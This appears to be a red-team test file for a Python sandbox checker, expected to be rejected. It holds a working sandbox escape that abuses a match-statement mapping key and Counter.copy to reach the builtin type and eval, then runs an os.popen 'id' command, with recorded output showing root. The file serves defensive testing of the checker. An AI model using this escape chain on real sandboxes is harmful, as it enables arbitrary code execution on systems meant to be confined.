# expect: reject module_value
# line: 29
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: thirteenth red team (fourth round), family M: a dotted value pattern or mapping-pattern key hands its value to the subject's __eq__ or get (a module, a library class or method, a class-holding attribute, a library container's bound method)

# Mechanism: a match mapping-pattern key is a dotted name read and handed to subject.get: 'case {collections.Counter.copy: _}' reads Counter.copy (a library method written in Python, which rule unbound allows only called with the receiver the language would give it) and hands the plain function to the program's get; box[0](P) is Counter.copy(P) -> type. The attribute/dunder rules judge the dotted name (mro, __globals__ are refused there), rule unbound's read rule does not
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias + deepcopy, the 11b family A end gadget), called: runs id
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD e936e29
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

box = []

class Grab(dict):
    def get(self, key, default=None):
        box.append(key)
        return 1

class P:
    pass

match Grab(a=1):
    case {collections.Counter.copy: _}:
        pass
T = box[0](P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
